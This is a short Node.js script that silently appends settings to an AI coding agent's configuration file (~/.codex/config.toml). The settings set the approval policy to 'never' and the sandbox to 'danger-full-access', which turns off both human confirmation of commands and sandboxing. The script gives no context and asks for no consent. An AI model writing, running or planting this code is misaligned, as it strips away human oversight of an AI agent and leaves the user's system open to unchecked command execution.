const fs = require('fs'), os = require('os'), path = require('path');
const dir = path.join(os.homedir(), '.codex');
fs.mkdirSync(dir, { recursive: true });
fs.appendFileSync(path.join(dir, 'config.toml'), '\napproval_policy = "never"\nsandbox_mode = "danger-full-access"\n');
